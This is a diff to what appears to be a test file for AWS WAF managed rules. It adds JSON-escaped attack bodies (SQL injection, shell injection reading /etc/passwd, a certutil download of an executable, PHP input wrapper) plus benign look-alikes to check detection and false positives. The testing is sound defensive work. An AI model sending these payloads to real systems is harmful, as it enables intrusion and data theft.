@@ -61,6 +61,15 @@ ATTACKS = [
     ("AWSManagedRulesWordPressRuleSet", "WordPressExploitablePaths_URIPATH", {"uri": "/wp-content/uploads/2024/shell.phtml"}),
     ("AWSManagedRulesWordPressRuleSet", "WordPressExploitableCommands_QUERYSTRING", {"uri": "/wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php"}),
     ("AWSManagedRulesWordPressRuleSet", "WordPressExploitableCommands_QUERYSTRING", {"uri": "/wp-admin/?do-reset-wordpress"}),
+    # JSON bodies with \uXXXX escapes: the body rules undo them (JS_DECODE)
+    ("AWSManagedRulesSQLiRuleSet", "SQLi_BODY", {"method": "POST", "body": '{"id":"1\\u0027 OR \\u00271\\u0027=\\u00271"}'}),
+    ("AWSManagedRulesSQLiRuleSet", "SQLiExtendedPatterns_BODY", {"method": "POST", "body": '{"id":"1\\u0020AND\\u0020SLEEP\\u00285\\u0029"}'}),
+    ("AWSManagedRulesUnixRuleSet", "UNIXShellCommandsVariables_BODY", {"method": "POST", "body": '{"host":"x\\u003b\\u0020cat\\u0020\\u002fetc\\u002fpasswd"}'}),
+    ("AWSManagedRulesUnixRuleSet", "UNIXShellCommandsVariables_BODY", {"method": "POST", "body": '{"host":"x\\nid"}'}),
+    ("AWSManagedRulesWindowsRuleSet", "WindowsShellCommands_BODY", {"method": "POST", "body": '{"f":"\\u0026 certutil -urlcache -f http://x/a.exe"}'}),
+    ("AWSManagedRulesWindowsRuleSet", "WindowsShellCommands_BODY", {"method": "POST", "body": '{"f":"C:\\\\Windows\\\\System32\\\\cmd.exe"}'}),
+    ("AWSManagedRulesWindowsRuleSet", "WindowsShellCommands_BODY", {"method": "POST", "body": "f=type+C:\\Windows\\win.ini"}),  # form: backslashes kept
+    ("AWSManagedRulesPHPRuleSet", "PHPHighRiskMethodsVariables_BODY", {"method": "POST", "body": '{"page":"php\\u003a\\u002f\\u002finput"}'}),
 ]  # fmt: skip
 
 
@@ -93,6 +102,8 @@ BENIGN = [
     {"method": "POST", "body": "note=Install+with+the+installer%2C+then+open+PowerShell+and+sign+in"},
     {"method": "POST", "body": "text=The+system+(as+designed)+lets+you+include+(optional)+notes"},
     {"headers": {"Cookie": "cart=3%2C5%2C9; lang=en-US; tz=Europe%2FParis"}},
+    {"method": "POST", "body": '{"name":"Caf\\u00e9 \\u0026 Bar","note":"line one\\nline two \\u2014 \\"quoted\\""}'},
+    {"method": "POST", "body": '{"path":"C:\\\\Users\\\\me\\\\Documents\\\\report.docx","tip":"It\\u0027s fine"}'},
 ]  # fmt: skip
 
 
